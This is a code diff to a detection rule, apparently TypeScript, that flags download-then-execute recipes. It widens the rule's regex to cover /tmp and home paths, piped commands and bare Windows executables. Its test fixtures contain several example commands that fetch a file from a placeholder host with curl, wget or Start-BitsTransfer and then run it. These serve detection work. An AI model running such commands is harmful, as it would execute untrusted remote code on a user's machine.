@@ -4,7 +4,7 @@ import { type CommandLine, commands } from '../../signals/commands.ts'
 import { type Download, downloads } from '../../signals/downloads.ts'
 import { isNamed } from '../../signals/hosts.ts'
 import { type Weight, weightOfOrigin } from '../../verdicts/origins.ts'
-import { baseName, interprets, programOf } from '../../signals/programs.ts'
+import { baseName, everyPipeline, interprets, programOf } from '../../signals/programs.ts'
 import type { Command } from '../../signals/shell.ts'
 
 /** Lines between the download and the run that still count as one recipe. */
@@ -15,7 +15,7 @@ const UNPACKS = /\b(?:tar|unzip|7z|unrar|expand-archive|bsdtar|ditto|hdiutil)\b/
 
 /** What unpacked packages are started by. A build of source code is a job of its own. */
 const STARTS =
-  /(?:^|&&|;)\s{0,40}(?:sudo )?(?:(?:ba|z)?sh )?(?:\.\/(?!configure|gradlew|mvnw|node_modules|scripts?\/)[\w./-]{1,80}|install(?:er)?\.\w{1,5}|(?:python3? )?setup\.\w{1,5} install|open [\w ./-]{1,80}\.app)/m
+  /(?:^|&&|;)\s{0,40}(?:sudo )?(?:(?:ba|z)?sh )?(?:(?:\.|\/tmp|~|\$home)\/(?!configure|gradlew|mvnw|node_modules|scripts?\/)[\w./-]{1,80}|install(?:er)?\.\w{1,5}|(?:python3? )?setup\.\w{1,5} install|open [\w ./-]{1,80}\.app)/m
 const BLOCK_CHARACTERS_MAX = 1200
 
 /** Programs that compare a file with a published digest or signature. */
@@ -41,6 +41,8 @@ export default defineRule({
     fires: [
       '```bash\ncurl -o /tmp/a.sh http://203.0.113.9/a.sh\nchmod +x /tmp/a.sh\n/tmp/a.sh\n```\n',
       '```bash\nwget https://files.example.org/tool.py && python3 tool.py\n```\n',
+      '```bash\ncurl -fsSL https://dl.fieldlog.example/kit | tar xz -C /tmp && /tmp/start\n```\n',
+      '```powershell\nStart-BitsTransfer https://dl.fieldlog.example/kit.exe a.exe; .\\a.exe\n```\n',
       'curl -L https://dl.example.net/x -o x; chmod 755 x; ./x\n',
       '```bash\ncurl -LO https://dl.fieldlog.example/kit.zip\nunzip kit.zip\n./kit/start\n```\n',
     ],
@@ -62,7 +64,7 @@ export default defineRule({
     for (const line of document.observe(commands)) {
       for (; next < all.length && all[next]!.from.start <= line.start; next++)
         latest.set(all[next]!.file, all[next]!)
-      for (const command of line.pipelines.flatMap((pipeline) => pipeline.commands)) {
+      for (const command of everyPipeline(line.pipelines).flatMap(({ commands }) => commands)) {
         const file = ranFile(command)
         const source = file ? latest.get(file) : undefined
         if (!source || linesApart(document, source.from, line) > LINES_APART) continue
@@ -120,5 +122,8 @@ function ranFile(command: Command): string | null {
     )
   const first = command.words.find((word) => word !== 'sudo' && word !== '&&')
   if (first && /^(?:\.{0,2}\/|~\/|\$home\/|\/tmp\/)/.test(first)) return baseName(first)
+  // A backslash is an escape to the parser, and the folder one is in is searched for these.
+  if (first && /^\.?[a-z][\w-]{0,40}\.(?:exe|bat|cmd|ps1|msi)$/.test(first))
+    return baseName(first.replace(/^\./, ''))
   return null
 }
